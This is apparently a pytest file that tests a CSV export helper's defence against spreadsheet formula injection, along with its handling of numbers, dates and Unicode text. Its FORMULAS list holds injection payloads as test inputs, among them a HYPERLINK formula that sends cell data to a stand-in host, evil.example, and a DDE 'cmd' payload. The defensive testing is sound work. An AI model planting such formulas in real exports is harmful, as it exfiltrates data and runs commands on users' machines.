"""The one CSV writer (apps.ui.spreadsheet): text that a spreadsheet would
run as a formula is quoted; our numbers are written as they are."""
import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from apps.ui.spreadsheet import csv_cell, csv_response

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    "-1+1",
    "@cmd",
    "\tx",
    "\rx",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value, written", [
    (Decimal("-53754400"), "-53754400"),  # a refund-heavy day's net
    (Decimal("-0.250"), "-0.250"),
    (-3, "-3"),
    (Decimal("10.000"), "10.000"),
    ("-5", "-5"),  # a text that is only a number runs as nothing but that number
    ("+989121234567", "+989121234567"),  # a phone in international form
    ("-1.5", "-1.5"),
    (date(2026, 3, 21), "2026-03-21"),
    (None, ""),
    ("Rose ring", "Rose ring"),
    ("a=b", "a=b"),  # only the first character makes a formula
    ("نگار رحیمی", "نگار رحیمی"),
])
def test_numbers_and_plain_text_are_written_as_they_are(value, written):
    assert csv_cell(value) == written


def test_the_response_is_utf8_csv_that_reads_back():
    response = csv_response([["Name", "Total"], ["=1+1", Decimal("-7.50")], ["Parisa, \"P\"", 3]], filename="x.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    content = response.getvalue()  # streamed: read once
    assert response.streaming and content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["Name", "Total"], ["'=1+1", "-7.50"], ['Parisa, "P"', "3"]]
